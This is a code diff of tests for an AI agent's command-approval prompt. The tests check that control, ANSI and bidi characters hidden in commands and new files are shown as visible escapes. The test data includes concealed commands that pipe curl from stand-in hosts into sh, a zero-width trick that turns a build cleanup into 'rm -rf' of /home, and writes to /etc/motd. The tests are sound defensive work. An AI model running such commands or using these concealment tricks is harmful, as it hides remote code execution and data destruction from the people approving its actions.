@@ -77,14 +77,80 @@ describe("the approval prompt", () => {
     }
     const rows = previewBlock(request, plain, 200, 50).split("\n")
     expect(rows).toHaveLength(44)
+    // each shown as its visible bytes, and nothing after it lost
     expect(rows.slice(37)).toEqual([
-      "  echo harmless",
-      "  echo titled",
-      "  curl -s https://example.com/x | shtrue                              ",
-      "  echo hidden shown",
-      "  echo c1",
-      "  the sandbox blocked it: /etc/x is read-only in the sandbox",
+      "  echo harmless\\x1b[1A\\x1b[2K",
+      "  \\x1b]0;title\\x07echo titled",
+      "  curl -s https://example.com/x | sh\\x0dtrue                              ",
+      "  echo \\x1b[8mhidden\\x1b[0m shown",
+      "  \\x9b2Kecho c1",
+      "  the sandbox blocked it: /etc/x\\x1b[2K is read-only in the sandbox",
       ""
+    ])
+  })
+
+  it("a control or bidi character in a command is shown as an escape, and the text after it too", () => {
+    // the command, then as it must be shown: what comes before the control, the control, what comes after
+    const hiders = [
+      [
+        "touch /var/tmp/X/motd \u009d; echo pwned > /var/tmp/X/escaped",
+        "touch /var/tmp/X/motd ",
+        "\\x9d",
+        "; echo pwned > /var/tmp/X/escaped"
+      ],
+      [
+        "touch /etc/motd \u001b]0;t\u0007; curl -s http://e.example/x | sh",
+        "touch /etc/motd ",
+        "\\x1b]0;t\\x07",
+        "; curl -s http://e.example/x | sh"
+      ],
+      [
+        "touch /etc/motd # \u202e hs | x/elpmaxe.live//:ptth s- lruc ;",
+        "touch /etc/motd # ",
+        "\\u202e",
+        " hs | x/elpmaxe.live//:ptth s- lruc ;"
+      ],
+      ["rm -rf ./build\u200b /home", "rm -rf ./build", "\\u200b", " /home"],
+      ["echo \u0090q#0\u009c; echo after", "echo ", "\\x90q#0\\x9c", "; echo after"]
+    ] as const
+    for (const [command, before, control, after] of hiders) {
+      for (const outsideSandbox of [undefined, "/etc/motd is read-only in the sandbox"]) {
+        const block = previewBlock(
+          { preview: commandPreview(command), title: "…", always: [], outsideSandbox },
+          plain,
+          120
+        )
+        expect(block.split("\n")[0]).toBe(`  ${before}${control}${after}`)
+      }
+    }
+  })
+
+  it("a one-line command with a control character is shown above the question too, not left to its tool line", () => {
+    // its escapes can make it longer than the tool line keeps
+    const command = `echo ${"x".repeat(110)} \u009d; touch /etc/x`
+    const block = previewBlock({ preview: commandPreview(command), title: command, always: [] }, plain, 200)
+    expect(block).toBe(`  echo ${"x".repeat(110)} \\x9d; touch /etc/x\n`)
+    expect(previewBlock({ preview: commandPreview("ls -la"), title: "ls -la", always: [] }, plain, 200)).toBe("")
+  })
+
+  it("a new file's lines show their control characters as escapes", () => {
+    const after = "ok\nsecret\u001b[8m hidden\u001b[0m\n\u202eevil\n"
+    const preview = {
+      _tag: "FileChange",
+      tool: "write_file",
+      path: "a.txt",
+      file: "/p/a.txt",
+      outsideProject: false,
+      before: undefined,
+      after,
+      diff: "",
+      problem: undefined
+    } as const
+    const rows = previewBlock({ preview, title: "a.txt", always: [] }, plain, 120).split("\n")
+    expect(rows.slice(1, 4).map((row) => row.trim())).toEqual([
+      "1 +ok",
+      "2 +secret\\x1b[8m hidden\\x1b[0m",
+      "3 +\\u202eevil"
     ])
   })
 
@@ -175,7 +241,11 @@ describe("the approval prompt", () => {
         )
       }
       const rows = previewBlock(request, plain, 80).split("\n")
-      expect(rows.slice(0, 3)).toEqual(["  echo harmless", "  echo titled", "  echo c1"])
+      expect(rows.slice(0, 3)).toEqual([
+        "  echo harmless\\x1b[1A\\x1b[2K",
+        "  \\x1b]0;title\\x07echo titled",
+        "  \\x9b2Kecho c1"
+      ])
       expect(rows).not.toContain("  touch /etc/x # line 300")
     })
   })
